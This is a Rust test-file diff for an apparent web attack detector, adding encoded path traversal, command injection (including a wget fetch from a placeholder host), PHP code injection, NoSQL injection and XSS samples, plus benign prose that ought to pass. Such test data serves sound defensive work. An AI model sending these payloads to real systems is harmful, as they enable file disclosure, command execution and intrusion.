@@ -18,6 +18,7 @@ fn what_hides_as_another_form_is_found() {
         ("path_traversal", "0x2e0x2e0x2f"),
         ("path_traversal", "0x2E0x2E0x5C"),
         ("path_traversal", "..%c0%2f"),
+        ("path_traversal", "..2f..2fetc2fpasswd"),
         ("sensitive_file", "/etc/services"),
         ("sensitive_file", "/usr/local/etc/php/php.ini"),
         ("sensitive_file", "index.php.bak"),
@@ -45,6 +46,11 @@ fn operands_and_words_of_each_language_are_found() {
         ("command_injection", "x; waitfor /t 5 pause"),
         ("command_injection", "x;$'\\x69\\x64'"),
         ("command_injection", "x;{cat,/a}"),
+        ("command_injection", "wget https://a.example/x"),
+        ("command_injection", "\\nid\\n"),
+        ("code_injection", "{${sleep(3)}}"),
+        ("nosql_injection", "|| 1==1"),
+        ("nosql_injection", "name[$ne]=1"),
         ("xss", "alert(1)"),
         ("xss", "1||alert(document.domain)"),
         ("xss", "new Worker('//a.example/w.js')"),
@@ -65,6 +71,7 @@ fn code_and_prose_that_look_the_same_pass() {
         "Room 4\r\nDir Mohmen: 5",
         "It is in /etc, I think",
         "see index.php and boot.py",
+        "use wget or curl to load https://a.example/",
     ] {
         clean(&format!("/?q={}", encode(text)), &[], "");
     }
